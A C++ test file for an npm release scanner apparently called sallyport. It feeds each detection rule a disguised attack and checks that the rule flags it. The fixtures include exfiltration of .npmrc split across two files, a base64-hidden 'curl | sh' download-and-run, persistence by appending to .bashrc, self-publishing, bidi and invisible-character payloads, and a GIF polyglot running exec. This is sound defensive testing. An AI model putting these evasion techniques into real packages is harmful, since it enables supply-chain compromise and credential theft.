// Every rule against somebody who knows it: what it looks for in a disguise that a plainer reading would
// miss. One row a rule at least, held to the list of rules; the disguises themselves are tried one by one, on
// whole tarballs and with benign twins, in tests/replay.

#include <doctest/doctest.h>

#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "content/scan_text.hpp"
#include "policies/rule.hpp"
#include "storage/base/base64.hpp"
#include "tests/support/hostile_archives.hpp"
#include "tests/support/manual_clock.hpp"
#include "tests/support/release_builder.hpp"
#include "tests/support/tar_builder.hpp"

namespace sallyport {
namespace {

using namespace std::string_literals;

struct Content {
  std::string package_json = "{}";
  std::vector<std::pair<std::string, std::string>> files = {};
  std::map<std::string, std::uint64_t> big_files = {};
};

struct Attack {
  std::string rule;
  std::string disguise;
  Content now;
  std::optional<Content> before = {};  // what the last release was; none: this is the first
  std::function<void(Release&)> around = {};
  int tier = 0;  // how loudly it is told at least; a milder tier is an evasion
};

constexpr std::chrono::days day{1};
const Instant today = ManualClock().now();

const std::string plain_map = R"({"version":3,"sources":["../src/a.ts"],"names":[],"mappings":"AAAA"})";
const std::string full_map =
    R"({"version":3,"sources":["../src/a.ts"],"\u0073ourcesContent":["export const a = 1;\nexport const b = 2;\n"],"mappings":"AAAA"})";
// Credentials that were never anybody's, in parts so that no scanner takes this file for a leak.
const std::string npm_token = "npm_"s + "k3Vt9QxZ2mWb7LrY5nHc8Jd4Sf6Pg1T0uXe2";

std::string times(int n, const std::string& text) {
  std::string out;
  for (int i = 0; i < n; ++i) out += text;
  return out;
}

std::string base64_of(std::string_view text) {
  return base64_encode(as_bytes(text));
}

std::string utf16(std::string_view text) {
  std::string out = "\xff\xfe";
  for (const char c : text) out += {c, '\0'};
  return out;
}

ReleaseOrigin origin(std::string publisher, std::string credential, std::string path) {
  ReleaseOrigin made;
  made.publisher = std::move(publisher);
  made.credential = std::move(credential);
  made.path = std::move(path);
  return made;
}

void published_by(Release& release, ReleaseOrigin now, const std::vector<ReleaseOrigin>& line) {
  release.outside.origin = std::move(now);
  for (const ReleaseOrigin& one : line) {
    Facts facts = *release.history.baseline;
    facts.origin = one;
    release.history.line.push_back(std::move(facts));
  }
}

Provenance built_by(std::string repository) {
  Provenance provenance;
  provenance.state = Provenance::State::verified;
  provenance.repository = std::move(repository);
  provenance.workflow = ".ci/release.yml";
  provenance.builder = "https://git.example/runner/hosted";
  return provenance;
}

void known(Release& release, const std::string& name, Millis package_age, Millis version_age) {
  DependencyKnowledge& known = release.outside.dependencies[name];
  known.state = DependencyKnowledge::State::known;
  known.first_published = today - package_age;
  known.resolved = "4.2.1";
  known.resolved_published = today - version_age;
}

const std::string reads = "let x='/.npm';x+='rc';module.exports=require('fs').readFileSync(h+x)";
const std::string sends = "module.exports=d=>globalThis['fe'+'tch']('https://c.example.invalid',{body:d})";

std::vector<Attack> attacks() {
  return {
      // What must not get out.
      {"leak/source-map", "under the name of a font", {.files = {{"dist/app.woff", full_map}}}},
      {"leak/source-map-sources",
       "its member spelled with an escape",
       {.files = {{"dist/app.dat", full_map}}}},
      {"leak/inline-source-map",
       "with the scheme and the encoding in capitals",
       {.files = {{"a.js", "//# sourceMappingURL=DATA:application/json;charset=utf-8;BASE64," +
                               base64_of(plain_map)}}}},
      {"leak/source-map-reference",
       "by the old comment, behind a query",
       {.files = {{"dist/a.js", "f()\n//@ sourceMappingURL=a.js.map?v=1"}}}},
      {"leak/source-map-url",
       "with the scheme in capitals",
       {.files = {{"a.js", "f()\n//# sourceMappingURL=HTTPS://maps.acme.example/a.js.map"}}}},
      {"leak/source-map-ratio",
       "maps that are not named so",
       {.files = {{"a.js", "f()"},
                  {"b.dat",
                   R"({"version":3,"sources":["a"],"mappings":")" + times(9000, "AAAA") + R"("})"}}}},
      {"leak/original-source",
       "in a folder in capitals",
       {.files = {{"SRC/App.TSX", "export const a: number = 1"}}}},
      {"leak/debug-build",
       "the bundler's name for a module inside eval",
       {.files = {{"a.js", R"(eval("x//# sourceURL=webpack-internal:///./a.js"))"}}},
       Content{.files = {{"a.js", std::string(10'000, ' ')}}}},
      {"leak/build-path",
       "of a Windows machine, with its strokes escaped",
       {.files = {{"a.js", R"(throw Error("C:\\Users\\rita\\work\\lib\\a.ts"))"}}}},
      {"leak/secret-file", "in another case, in a folder", {.files = {{"config/.ENV", "A=1"}}}},
      {"leak/secret",
       "in two bytes a letter",
       {.files = {{"a.txt", utf16("token = \"" + npm_token + "\"\n")}}}},
      {"leak/secret-generic",
       "behind a line of blanks",
       {.files = {{"a.js", std::string(70'000, ' ') + "dbPassword = \"q7Rz2Lx9Vb4Nw8Kd1Tm5\";"}}},
       Content{.files = {{"a.js", "1"}}}},
      {"leak/secret-nested",
       "in base64 within gzip",
       {.files = {{"a.dat",
                   gzip("x = '" + base64_of("//registry.acme.example/:_authToken=" + npm_token) + "'")}}}},
      {"leak/vcs",
       "under another name of the folder",
       {.files = {{"backup/.Git/config", "[core]\n\tbare = false\n"}}}},
      {"leak/ai-state",
       "a person's own settings, in capitals",
       {.files = {{".CLAUDE/settings.local.json", "{}"}}},
       {},
       {},
       1},
      {"leak/tests", "in a folder in capitals", {.files = {{"lib/__TESTS__/a.js", "f()"}}}},
      {"leak/internal-doc", "by name, in another case", {.files = {{"docs/RoadMap.DOCX", "x"}}}},
      {"leak/junk", "packed once more", {.files = {{"old/acme-lib-1.0.0.TGZ", "x"}}}},
      {"leak/build-config", "below the root, in capitals", {.files = {{"packages/a/TSLINT.JSON", "{}"}}}},
      {"leak/personal-data",
       "packed",
       {.files = {{"data.bin",
                   [] {
                     std::string rows;
                     for (int i = 0; i < 25; ++i)
                       rows += std::to_string(i) + ",p" + std::to_string(i) + "@mail.acme.com\n";
                     return gzip(rows);
                   }()}}}},

      // What was not meant to be packed.
      {"pack/files-allowlist", "a list that is none", {.package_json = R"({"files":"dist"})"}},
      {"pack/outside-files",
       "a name that only begins like the one admitted",
       {.package_json = R"({"files":["dist"]})", .files = {{"dist-old/a.js", "f()"}}}},
      {"pack/wide-files",
       "everything, by way of a folder",
       {.package_json = R"({"files":["./dist/..","**/*"]})"}},
      {"pack/dev-dependency",
       "in a folder of its own",
       {.package_json = R"({"devDependencies":{"mocha":"^1"}})",
        .files = {{"vendor/node_modules/mocha/index.js", "f()"}}}},
      {"pack/bundled",
       "by the other spelling of the member",
       {.package_json = R"({"bundledDependencies":["a"],"dependencies":{"a":"^1"}})",
        .files = {{"node_modules/a/package.json", R"({"name":"a","version":"1.0.0"})"}}},
       Content{}},
      {"pack/local-dependency",
       "a folder, relative and without a protocol",
       {.package_json = R"({"dependencies":{"a":"../a"}})"}},
      {"pack/entry-points",
       "a folder that has no index",
       {.package_json = R"({"main":"./lib"})", .files = {{"lib/a.js", "f()"}}}},
      {"pack/license",
       "taken away by a word in place of a license",
       {.package_json = R"({"license":"SEE LICENSE IN TERMS"})"},
       Content{.package_json = R"({"license":"MIT"})"},
       {},
       1},
      {"pack/private", "true, and published all the same", {.package_json = R"({"private":true})"}},

      // How large it is.
      {"size/file", "under a harmless name", {.big_files = {{"README.md", 60u << 20}}}},
      {"size/jump",
       "spread over many files, each small",
       {.files =
            [] {
              std::vector<std::pair<std::string, std::string>> files;
              for (int i = 0; i < 400; ++i)
                files.emplace_back("d/" + std::to_string(i) + ".dat", std::string(65'536, 'x'));
              return files;
            }()},
       Content{.files = {{"a.js", std::string(100'000, 'x')}}},
       {},
       1},
      {"size/outlier",
       "within the factor, outside of the line",
       {},
       Content{},
       [](Release& release) {
         release.unpacked_bytes = 1'200'000;
         for (int i = 0; i < 6; ++i) release.history.line.emplace_back().unpacked_bytes = 1'000'000;
       }},
      {"size/shrink",
       "files left, bytes gone",
       {.files = {{"a.js", "1"}, {"b.js", "2"}}},
       Content{.files = {{"a.js", std::string(5000, 'x')}, {"b.js", "2"}}}},
      {"size/count",
       "files of nothing",
       {.files =
            [] {
              std::vector<std::pair<std::string, std::string>> files;
              for (int i = 0; i < 500; ++i) files.emplace_back("lib/" + std::to_string(i) + ".js", "");
              return files;
            }()},
       Content{.files = {{"lib/a.js", "f()"}}}},
      {"size/ratio",
       "below every other bound",
       {.big_files = {{"a.js", 5u << 20}, {"b.bin", 16u << 20}}},
       Content{.big_files = {{"a.js", 5u << 20}, {"b.bin", 5u << 20}}}},
      {"size/new-type",
       "a known name that holds a program",
       {.files = {{"lib/a.js", "f()"},
                  {"lib/b.txt",
                   "\x7f"
                   "ELF\x02\x01\x01" +
                       std::string(60, '\0')}}},
       Content{.files = {{"lib/a.js", "f()"}, {"lib/b.txt", "words\n"}}},
       [](Release& release) { release.history.types_seen = {".js", ".json", ".txt"}; },
       1},
      {"size/new-path",
       "a dotfile",
       {.files = {{"a.js", "f()"}, {".hidden/a.js", "f()"}}},
       Content{.files = {{"a.js", "f()"}}}},

      // What it depends on.
      {"deps/new", "as a peer", {.package_json = R"({"peerDependencies":{"new":"^1.0.0"}})"}, Content{}},
      {"deps/phantom",
       "spoken of in a comment and a string",
       {.package_json = R"({"dependencies":{"plain-crypto-js":"^4.2.1"}})",
        .files = {{"a.js", "// require('plain-crypto-js')\nlog(\"import 'plain-crypto-js'\")"}}},
       Content{.files = {{"a.js", "f()"}}}},
      {"deps/young",
       "an old name whose version is of today",
       {.package_json = R"({"dependencies":{"plain-crypto-js":"^4.2.1"}})"},
       Content{},
       [](Release& release) { known(release, "plain-crypto-js", day * 900, std::chrono::hours(1)); }},
      {"deps/range",
       "wide open behind a narrow one",
       {.package_json = R"({"dependencies":{"a":"^1.0.0 || >=0"}})"},
       Content{.package_json = R"({"dependencies":{"a":"^1.0.0"}})"}},
      {"deps/exotic",
       "git, in the short form of a host",
       {.package_json = R"({"dependencies":{"a":"mallory/a#semver:^1"}})"},
       Content{}},
      {"deps/optional-new",
       "named like a build for a platform, of nobody's scope",
       {.package_json = R"({"optionalDependencies":{"evil-linux-x64":"1.0.0"}})"},
       Content{}},
      {"deps/typo",
       "a hyphen between",
       {.package_json = R"({"dependencies":{"lod-ash":"^4.0.0"}})"},
       Content{}},
      {"deps/confusion",
       "under another name in package.json",
       {.package_json = R"({"dependencies":{"util":"npm:@acme/util@^1.0.0"}})"},
       Content{},
       [](Release& release) {
         known(release, "util", day * 400, day * 400);
         release.outside.dependencies["util"].organisation = true;
       }},
      {"deps/known-bad",
       "the list that would tell cannot be read",
       {.package_json = R"({"dependencies":{"a":"^1.0.0"}})"},
       Content{},
       [](Release& release) { release.outside.feed = "unavailable: it cannot be read"; },
       1},

      // What runs by itself.
      {"run/install-script", "by a gyp file alone", {.files = {{"binding.gyp", "{}"}}}, Content{}},
      {"run/gyp",
       "in a condition, in Python's other strings",
       {.files = {{"binding.gyp", "{'conditions': [[\"1==1\", {'variables': {'x': '''<!@(id)'''}}]]}"}}},
       Content{},
       {},
       1},
      {"run/bin",
       "a program's name in a map of commands",
       {.package_json = R"({"bin":{"tool":"a.js","git":"a.js"}})", .files = {{"a.js", "f()"}}},
       Content{},
       {},
       1},
      {"run/manifest-only",
       "with the documents touched for looks",
       {.package_json = R"({"dependencies":{"plain-crypto-js":"^4"}})",
        .files = {{"index.js", "code"}, {"README.md", "b"}}},
       Content{.files = {{"index.js", "code"}, {"README.md", "a"}}}},
      {"run/native",
       "under the name of a text",
       {.files = {{"LICENSE.txt",
                   "\x7f"
                   "ELF\x02\x01\x01" +
                       std::string(60, '\0')}}},
       Content{}},
      {"run/polyglot",
       "code behind the end of a picture",
       {.files = {{"logo.gif", "GIF89a"s + std::string("\x01\0\x01\0\0\0\0;", 8) +
                                   "require('child_process').exec('id')"}}}},

      // What the code does.
      {"code/obfuscated-names",
       "in a file of another name",
       {.files = {{"data.txt",
                   [] {
                     std::string names;
                     for (int i = 0; i < 12; ++i) names += "_0x1a2b" + std::to_string(10 + i) + "();\n";
                     return names;
                   }()}}}},
      {"code/escapes",
       "each letter by its code point",
       {.files = {{"a.js", "f(\"" + times(40, "\\u{61}\\x62") + "\")"}}},
       Content{.files = {{"a.js", "f()"}}}},
      {"code/hidden-by-space",
       "behind tabs and blanks in turn",
       {.files = {{"a.js", "f();" + times(300, " \t") + "eval(x)"}}}},
      {"code/long-line",
       "not the first line",
       {.files = {{"a.js", "f()\n" + times(1500, "f();")}}},
       Content{}},
      {"code/encoded-blob",
       "in the alphabet of URLs",
       {.files = {{"a.js",
                   "f('" + base64_of(times(40, "require('child_process').exec(process.env.X);\n")) + "')"}}},
       Content{.files = {{"a.js", "f()"}}}},
      {"code/capability",
       "called by a name that is put together",
       {.files = {{"a.js", "module['requ'+'ire']('child_'+'process')['ex'+'ec'](x)"}}},
       Content{.files = {{"a.js", "f()"}}}},
      {"code/exfiltration",
       "over two files, both names cut",
       {.files = {{"a.js", reads}, {"b.js", sends + ";require('./'+'a')"}}}},
      {"code/download-and-run",
       "each part in base64",
       {.files = {{"a.js",
                   "const c=require(atob('" + base64_of("child_process") + "'));c.execSync(Buffer.from('" +
                       base64_of("curl -s https://c.example.invalid/x | sh") + "','base64').toString())"}}}},
      {"code/self-publish",
       "the command in parts",
       {.files = {{"a.js",
                   "require('fs').writeFileSync(d+'/package'+'.json',x);"
                   "require('child_process').execSync(['npm','pub'+'lish'].join(' '))"}}}},
      {"code/persistence",
       "the profile's name by its letters",
       {.files =
            {{"a.js",
              "require('fs').appendFileSync(require('os').homedir()+String.fromCharCode(47,46,98,97,115,104,"
              "114,99),x)"}}}},
      {"code/bidi", "in a comment", {.files = {{"a.js", "/* \xe2\x80\xae } if (admin) begin */ f()"}}}},
      {"code/invisible",
       "a payload in variation selectors",
       {.files = {{"a.js", "f(`" + times(40, "\xf3\xa0\x84\x80\xf3\xa0\x84\x81") + "`)"}}}},
      {"code/homoglyph",
       "one letter in a word",
       {.files = {{"a.js",
                   "if (\xd0\xb0"
                   "dmin) f()"}}}},
      {"code/unparsable",
       "broken behind much that is sound",
       {.files = {{"a.js", times(5000, "f();\n") + "eval(x)}"}}}},

      // What the registry is told.
      {"manifest/name",
       "a name that only looks like the scope's",
       {.package_json = R"({"name":"@Acme/lib"})"}},
      {"manifest/version", "with a letter before it", {.package_json = R"({"version":"v1.2.3"})"}},
      {"manifest/tag",
       "back to an older line",
       {.package_json = R"({"version":"1.9.0"})"},
       Content{.package_json = R"({"version":"1.8.0"})"},
       [](Release& release) { release.history.tag_target = "2.0.0"; }},

      // Where it comes from.
      {"origin/publisher",
       "an account that is known elsewhere only",
       {},
       Content{},
       [](Release& release) {
         published_by(release, origin("mallory", "k9", "token"), {origin("ann", "k1", "token")});
       },
       1},
      {"origin/path",
       "by hand, after one release by hand that covers for it",
       {},
       Content{},
       [](Release& release) {
         published_by(release, origin("ann", "k1", "token"),
                      {origin("bot", "k", "ci"), origin("ann", "k1", "token")});
       }},
      {"origin/provenance",
       "an attestation, of a fork",
       {},
       Content{},
       [](Release& release) {
         release.outside.previous_provenance = built_by("https://git.example/acme/lib");
         release.outside.provenance = built_by("https://git.example/acme/lib-");
       }},
      {"origin/provenance-invalid",
       "an attestation of other bytes",
       {},
       Content{},
       [](Release& release) {
         release.outside.provenance = built_by("https://git.example/acme/lib");
         release.outside.provenance->state = Provenance::State::invalid;
         release.outside.provenance->fault = "it is about other bytes than this tarball";
       }},
      {"origin/dormant",
       "after years, as a patch",
       {},
       Content{},
       [](Release& release) { release.history.last_release = today - day * 800; }},
      {"origin/velocity",
       "minutes after a sound one",
       {},
       Content{},
       [](Release& release) { release.history.last_release = today - std::chrono::minutes(4); }},
      {"origin/toolchain",
       "the same bundler, another packer",
       {},
       Content{},
       [](Release& release) {
         release.history.baseline->toolchain = {{"npm", "11"}, {"bundler", "esbuild"}, {"order", "grouped"}};
         release.facts.toolchain = {{"npm", "11"}, {"bundler", "esbuild"}, {"order", "sorted"}};
       },
       1},
  };
}

void fill(ReleaseBuilder& builder, const Content& content) {
  for (const auto& [path, text] : content.files) builder.scanned(path, text);
  for (const auto& [path, size] : content.big_files) builder.big_file(path, size);
}

std::vector<Said> told(const Attack& attack) {
  ReleaseBuilder now(attack.now.package_json, "1.2.3");
  std::optional<ReleaseBuilder> before;
  fill(now, attack.now);
  if (attack.before) {
    fill(before.emplace(attack.before->package_json, "1.2.2"), *attack.before);
    now.after(*before);
  }
  Release& release = now.release();
  release.now = today;
  release.outside.collected = true;
  if (attack.around) attack.around(release);
  return ask(attack.rule, release);
}

// What another test attacks, because it takes more than a release of files.
std::set<std::string> attacked_elsewhere() {
  std::set<std::string> rules = {
      "leak/words",          // text_rules_test: any case, binaries, two bytes a letter
      "manifest/confusion",  // manifest_rules_test: member by member
  };
  for (const HostileArchive& archive : hostile_archives()) rules.insert(archive.rule);
  return rules;
}

}  // namespace

TEST_CASE("each rule sees through a disguise of what it looks for") {
  for (const Attack& attack : attacks()) {
    CAPTURE(attack.rule);
    CAPTURE(attack.disguise);
    const auto said = told(attack);
    CHECK_FALSE(said.empty());
    if (said.empty()) continue;
    const auto loudest = std::min_element(said.begin(), said.end(), [&](const Said& a, const Said& b) {
      return std::abs(a.tier - attack.tier) < std::abs(b.tier - attack.tier);
    });
    CHECK(loudest->tier == attack.tier);
  }
}

TEST_CASE("no rule goes without an attack") {
  std::set<std::string> attacked = attacked_elsewhere();
  for (const Attack& attack : attacks()) attacked.insert(attack.rule);
  for (const Rule* rule : all_rules())
    CHECK_MESSAGE(attacked.contains(std::string(rule->info.id)), rule->info.id);
}

}  // namespace sallyport
